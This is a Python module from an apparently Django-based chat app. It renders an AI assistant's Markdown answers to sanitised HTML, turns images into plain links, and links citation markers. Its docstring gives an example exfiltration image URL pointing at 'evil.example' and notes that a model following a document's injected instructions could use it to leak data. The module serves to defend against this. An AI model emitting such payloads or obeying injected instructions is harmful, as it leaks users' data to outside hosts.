"""Assistant text to safe HTML: Markdown (markdown-it-py), code highlighting (pygments),
then sanitising (nh3). Raw HTML in the model's text is never passed through: markdown-it
runs with ``html=False`` and nh3 removes anything outside the allow-list below.

Rendering loads no resource (DESIGN §10): an image in the Markdown becomes a plain link
to it, so an answer (or a document instruction it follows) cannot make the reader's
browser send data to another host, e.g. ``![x](https://evil.example/p.png?leak=...)``.
Every image is a link, our own origin's too: one rule, nothing to get wrong. The allow-
lists below have no element or attribute that loads anything (no img, srcset, iframe,
object, link, style, no style attributes), and the page's Content-Security-Policy
(settings.CONTENT_SECURITY_POLICY) is the second line. That policy also refuses inline
styles, so table column alignment is a class (``align-left``, static/chat.css), not
markdown-it's ``style="text-align:left"``.

Inline citations: the prompt numbers document passages and asks the model to
cite them as ``[n]``; :func:`answer_to_html` turns each ``[n]`` of the *sanitised* HTML
whose ``n`` is one of the answer's citations into ``<a href="#cite-<message>-<n>"
class="cite">[n]</a>``, a link to that entry of the answer's source list. Text inside
``a``, ``code`` and ``pre`` is left alone, and a number the answer was not given stays
plain text, so a model cannot link to a source it never saw.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Collection
from html import escape

import nh3
from django.conf import settings
from django.template.loader import render_to_string
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from conversations.tool_steps import ToolStep

# nowrap: markdown-it must not wrap pygments' own <div><pre> in another <pre><code>.
_FORMATTER = HtmlFormatter(nowrap=True)

ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "span",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "div": {"class"},
    "span": {"class"},
    "pre": {"class"},
    "th": {"class"},
    "td": {"class"},
    "ol": {"start"},
}


def _highlight(code: str, lang: str, _attrs: str) -> str:
    if not lang:
        return ""  # markdown-it escapes and wraps it itself
    try:
        lexer = get_lexer_by_name(lang)
    except ClassNotFound:
        return ""
    body = highlight(code, lexer, _FORMATTER)
    return f'<pre class="highlight"><code>{body}</code></pre>\n'


def _link_depth(tokens: list[Token], idx: int, env: EnvType) -> int:
    """How many links are open before ``tokens[idx]``: counted once per token list
    (kept in ``env``), so a text of many images costs linear, not quadratic, work."""
    depths = env.setdefault("link_depths", {})
    key = id(tokens)
    if key not in depths:
        depth, counts = 0, []
        for token in tokens:
            counts.append(depth)
            depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
        depths[key] = (tokens, counts)
    return int(depths[key][1][idx])


def _image_as_link(
    self: RendererHTML,
    tokens: list[Token],
    idx: int,
    options: OptionsDict,
    env: EnvType,
) -> str:
    """Render a Markdown image as a link to it, its text the alt text (or the URL).

    Inside a link (``[![alt](src)](href)``) only the text is rendered: links do not
    nest. The href still goes through nh3 (its schemes and ``rel``).
    """
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    text = self.renderInlineAsText(token.children or [], options, env) or src
    if _link_depth(tokens, idx, env) > 0:
        return escapeHtml(text)
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    return f'<a href="{escapeHtml(src)}"{title_attr}>{escapeHtml(text)}</a>'


def _table_align_as_class(state: StateCore) -> None:
    """Turn markdown-it's ``style="text-align:X"`` on table cells into
    ``class="align-X"`` (the Content-Security-Policy refuses style attributes)."""
    for token in state.tokens:
        if token.type not in ("th_open", "td_open"):
            continue
        style = str(token.attrs.pop("style", ""))
        if style.startswith("text-align:"):
            token.attrSet("class", "align-" + style.removeprefix("text-align:"))


@functools.cache
def _parser() -> MarkdownIt:
    md = MarkdownIt(
        "commonmark", {"html": False, "linkify": False, "highlight": _highlight}
    )
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _image_as_link)
    md.core.ruler.push("table_align_as_class", _table_align_as_class)
    return md


def html_sanitise(html: str) -> str:
    """Return ``html`` with everything outside the allow-lists removed: no element or
    attribute that loads a resource, links only to http(s) and mailto URLs (others lose
    their href) with ``rel="noopener noreferrer nofollow"``, no style attributes."""
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )


def markdown_to_html(text: str) -> str:
    """Render Markdown to sanitised HTML (safe to insert into the page as is); images
    become links (see the module docstring).

    A text over CHAT_RENDER_MAX_CHARS characters is not parsed: it is shown escaped,
    as plain text (``<div class="plain-text">``, whitespace kept by static/chat.css),
    so the work of a page stays bounded whatever a message holds.
    """
    text = text or ""
    if len(text) > settings.CHAT_RENDER_MAX_CHARS:
        return f'<div class="plain-text">{escape(text, quote=False)}</div>'
    return html_sanitise(_parser().render(text))


# A tag of nh3's output: nh3 (html5ever) writes every attribute value in double quotes
# with ``"`` escaped inside, drops comments and escapes ``<`` in text, so this splits
# its output exactly into tags and text.
_TAG = re.compile(r'<(/?)([a-zA-Z0-9]+)(?:[^>"]|"[^"]*")*>')
_CITE = re.compile(r"\[(\d{1,3})\]")
_NO_LINKS_INSIDE = {"a", "code", "pre"}


def citations_link(html: str, *, message_id: str, numbers: Collection[int]) -> str:
    """Return sanitised ``html`` with each ``[n]`` (``n`` in ``numbers``) outside
    ``a``/``code``/``pre`` made a link to ``#cite-<message_id>-<n>`` (class ``cite``).

    ``html`` must be :func:`html_sanitise` output (see ``_TAG``); the links added are
    built here from a number and the message id only.
    """
    if not numbers or "[" not in html:
        return html
    wanted = {int(n) for n in numbers}
    ident = escape(str(message_id), quote=True)

    def link(match: re.Match[str]) -> str:
        n = int(match.group(1))
        if n not in wanted:
            return match.group(0)
        return f'<a href="#cite-{ident}-{n}" class="cite">[{n}]</a>'

    out: list[str] = []
    depth = 0  # open a/code/pre elements around the current text
    pos = 0
    for tag in _TAG.finditer(html):
        text = html[pos : tag.start()]
        out.append(text if depth else _CITE.sub(link, text))
        out.append(tag.group(0))
        if tag.group(2).lower() in _NO_LINKS_INSIDE:
            depth = max(0, depth + (-1 if tag.group(1) else 1))
        pos = tag.end()
    tail = html[pos:]
    out.append(tail if depth else _CITE.sub(link, tail))
    return "".join(out)


def answer_to_html(
    text: str, *, message_id: str = "", citations: Collection[int] = ()
) -> str:
    """Render an answer's Markdown to sanitised HTML with its ``[n]`` citation markers
    linked to its source list (``citations``: the numbers the answer was given)."""
    html = markdown_to_html(text)
    if not message_id:
        return html
    return citations_link(html, message_id=message_id, numbers=citations)


def tool_step_html(*, step: ToolStep) -> str:
    """Return the page's block of one tool step: ``templates/chat/_tool_step.html``,
    the same HTML the thread renders after a reload (``chat/_message.html`` includes
    it), so a block sent live reads the same.

    A ``<details id="step-<calling message id>-<call index>">``, collapsed, whose
    summary is the step's label (with "running…", "failed" or "no result"), opening
    to the call's arguments and the result. Everything from the model or the tool is
    escaped by the template (never raw HTML); code and results sit in ``<pre>``.
    ``static/chat.js`` inserts it (``ChatTools.insertStep``), replacing a block with
    the same id (a running step by its finished one).
    """
    return render_to_string("chat/_tool_step.html", {"step": step})
